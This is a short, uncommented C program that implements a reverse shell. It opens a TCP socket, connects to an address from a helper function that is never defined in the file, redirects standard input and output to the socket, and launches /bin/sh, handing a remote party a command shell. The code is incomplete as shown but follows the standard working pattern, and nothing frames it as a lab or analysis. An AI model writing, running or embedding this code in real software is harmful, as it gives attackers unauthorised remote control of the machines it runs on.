#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    connect(s, address(), 16);
    dup2(s, 0);
    dup2(s, 1);
    execl("/bin/sh", "sh", NULL);
}
